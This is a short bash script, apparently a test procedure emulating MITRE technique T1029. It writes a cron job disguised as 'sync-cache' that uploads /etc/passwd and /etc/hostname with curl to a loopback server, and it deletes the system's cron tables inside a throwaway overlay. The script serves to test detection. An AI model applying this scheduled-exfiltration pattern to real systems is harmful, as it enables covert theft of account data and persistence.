#!/bin/bash
# Schedule exfiltration: a cron job (a file in /etc/cron.d) uploads /etc/hostname and /etc/passwd with curl -T every minute to a loopback web server the script starts; the cron daemon, started here in the foreground as no cron runs on this machine, runs it at the next minute.
# technique: T1029
# expect: scheduled-upload
set -eu
# cron writes its pid file under /run, which has no overlay: give it a private one.
mount -t tmpfs -o mode=0755 procedure-run /run
# Only this job may run: the system's own cron tables are hidden in the throwaway overlay.
rm -f /etc/crontab /etc/cron.d/* /var/spool/cron/crontabs/* 2> /dev/null || true
port=$((20000 + ($$ + 31) % 20000))
mkdir -p "$TPY_WORK/www"
/usr/bin/python3 -m http.server --bind 127.0.0.1 -d "$TPY_WORK/www" "$port" > /dev/null 2>&1 &
server=$!
cat > /etc/cron.d/sync-cache <<CRON
* * * * * root curl -s -o /dev/null -T /etc/hostname http://127.0.0.1:$port/h; curl -s -o /dev/null -T /etc/passwd http://127.0.0.1:$port/p; touch $TPY_WORK/sent
CRON
chmod 0644 /etc/cron.d/sync-cache
cron -f &
cron_pid=$!
for _ in $(seq 80); do
    [ -e "$TPY_WORK/sent" ] && break
    sleep 1
done
kill "$cron_pid" "$server"
wait || true
[ -e "$TPY_WORK/sent" ]
